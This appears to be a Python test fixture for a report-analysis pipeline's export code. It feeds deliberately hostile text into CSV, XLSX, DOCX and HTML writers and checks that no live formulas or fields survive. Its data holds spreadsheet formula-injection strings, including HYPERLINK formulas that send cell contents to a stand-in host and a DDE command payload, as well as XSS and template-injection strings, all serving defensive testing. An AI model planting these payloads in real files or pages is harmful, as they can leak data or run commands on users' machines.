"""Findings made of everything that could break an export, and counts of what came of it.

The counts are what `benchmarks/reliability` reports; the tests hold each of them.
"""

import csv
import shutil
import subprocess
import zipfile
from pathlib import Path

import docx
import openpyxl
from lxml import etree, html
from pandas import DataFrame

from pipeline import cells
from pipeline import settings as choices
from pipeline.aggregate import Findings, Frames, columns, find
from pipeline.aggregate.passages import InMemory
from pipeline.codebook import Codebook, Issue
from pipeline.outputs import WRITERS

LEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u3000=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "\x00=",
    "\ufeff=",
    "a\r=",
    'a"\r\n=',
)
FORMULAS = (*(f'{lead}HYPERLINK("http://example.invalid/?"&A1,"看")' for lead in LEADS), "=cmd|' /C calc'!A0", "-2+3")
CONTROLS = tuple(
    f"甲{chr(code)}乙" for code in (*range(32), *range(127, 160), 0xFFFE, 0xFFFF, 0xD800, 0xDFFF, 0x2028, 0x202E, 0x1FFFE)
)
MARKUP = (
    *("<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "<!--<script>", "]]>", "&lt;b&gt; &amp; &#x41;"),
    *(
        "<r><t>红</t></r>",
        "<r><b></r>",
        "_x0041_x",
        "{{ 7 * 7 }}{% include 'page.js' %}",
        "<w:p/>",
        "\x1b[2J\x1b]0;题\x07",
        "<a href=javascript:x>点</a>",
    ),
)
LONG = ("党" * 40_000, "=问" * 20_000)
TEXTS = (*FORMULAS, *CONTROLS, *MARKUP, *LONG)
ROLES = ("problem", "cause", "countermeasure", "achievement", "other")


def findings() -> Findings:
    """Give findings in which every text that comes from outside is hostile somewhere."""
    book = Codebook("<b>" + "编" * 300 + "\x07", "=1", tuple(_issues()), "f")
    reports, passages, sources = [], [], []
    for number, text in enumerate(TEXTS):
        report = f"r{number}"
        blank = dict.fromkeys(columns.REPORTS, "") | {"report_id": report, "source": f"{text}.docx", "title": text}
        blank |= {"organisation": text, "organisation_type": "机关", "region": text[:40], "year": "2023", "genre": "report"}
        reports.append(blank | {"start": 0, "end": 9, "characters": 9, "passages": 2, "similarity": None})
        state = {"status": "partial", "reason": text} if number % 2 else {"status": "ok", "reason": ""}
        sources.append(
            {"source": f"{text}.docx", "sha256": "ab", "format": "docx", "bytes": -3, "reports": 1, "seconds": 0.5} | state
        )
        for place in range(3):
            said = text if place else f"{text}。有的支部学习不够经常，制度落实不到位。"
            passages.append(_passage(report, place, said, f"i{(number + place) % 6}") | {"role": ROLES[(number + place) % 3]})
    frames = Frames(
        DataFrame(sources, columns=list(columns.SOURCES)),
        DataFrame(reports, columns=list(columns.REPORTS)).astype({"similarity": "float64"}),
        InMemory(DataFrame(passages, columns=list(columns.PASSAGES)).astype({"page": "Int64"})),
    )
    return find(
        frames, book, choices.Findings(excerpts=8), {"finished": "2026-03-01T08:00:00+00:00", "versions": {"wenzhen": TEXTS[0]}}
    )


def _issues():
    for number, text in enumerate((MARKUP[0], FORMULAS[0], CONTROLS[7], MARKUP[5], LONG[0][:300], "制度不实")):
        yield Issue(code=f"i{number}", name=text, definition=text, colour="#c8553d")


def _passage(report, place, text, issue):
    given = {
        "passage_id": f"{report}-{place}",
        "report_id": report,
        "source": f"{text}.docx",
        "start": -5,
        "end": 0,
        "page": None,
    }
    given |= {"section": text, "text": text, "role_score": 0.5, "issues": issue, "issue_scores": "0.5"}
    return given | {"author": f"person:{text}", "reviewed": True}


def write(folder: Path) -> Findings:
    """Write the hostile findings in every format into a folder."""
    made = findings()
    WRITERS["csv"](made, folder / "tables")
    for kind in ("xlsx", "docx", "html"):
        WRITERS[kind](made, folder / f"findings.{kind}")
    return made


def formulas(folder: Path) -> list[str]:
    """List every cell that a program would run: of the exports as they are, and as LibreOffice reads them."""
    found = []
    for path in sorted((folder / "tables").glob("*.csv")):
        found += [cell for row in rows(path) for cell in row if cells.escape(cell) != cell and not cell.startswith("'")]
    books = [folder / "findings.xlsx", *sorted((folder / "as_libreoffice").glob("*.xlsx"))]
    for path in books:
        with zipfile.ZipFile(path) as packed:
            for name in packed.namelist():
                if name.startswith("xl/worksheets/sheet"):
                    found += [f"{path.name}: {each.text}" for each in etree.fromstring(packed.read(name)).iterfind(".//{*}f")]
    fields = docx.Document(folder / "findings.docx").element.xpath("//w:instrText | //w:fldSimple | //w:hyperlink | //w:altChunk")
    return found + [each.tag for each in fields]


def rows(path: Path) -> list[list[str]]:
    """Read a CSV file as it stands."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def opened(folder: Path) -> dict[str, bool]:
    """Say of every file whether the programs it is for open it: openpyxl, python-docx, lxml, LibreOffice."""
    done = {f"csv {path.name}": bool(rows(path)) for path in sorted((folder / "tables").glob("*.csv"))}
    done["xlsx in openpyxl"] = len(openpyxl.load_workbook(folder / "findings.xlsx").sheetnames) == 11
    done["docx in python-docx"] = len(docx.Document(folder / "findings.docx").paragraphs) > 50
    done["html in lxml"] = len(html.parse(folder / "findings.html").xpath("//script")) == 2
    if shutil.which("soffice"):
        tables = sorted((folder / "tables").glob("*.csv"))
        for paths, kind in (([folder / "findings.xlsx"], "ods"), ([folder / "findings.docx"], "odt"), (tables, "xlsx")):
            for path, made in zip(paths, convert(paths, kind, folder / "as_libreoffice"), strict=True):
                done[f"{path.name} in LibreOffice"] = made.exists() and zipfile.is_zipfile(made)
    return done


def convert(paths: list[Path], kind: str, target: Path) -> list[Path]:
    """Let LibreOffice open files, formulas in CSV evaluated, and save them in another format."""
    command = ["soffice", f"-env:UserInstallation={(target / 'profile').absolute().as_uri()}", "--headless", "--convert-to", kind]
    if paths[0].suffix == ".csv":
        command.append("--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true")
    subprocess.run([*command, "--outdir", target, *paths], check=True, capture_output=True, timeout=300)
    return [target / f"{path.stem}.{kind}" for path in paths]
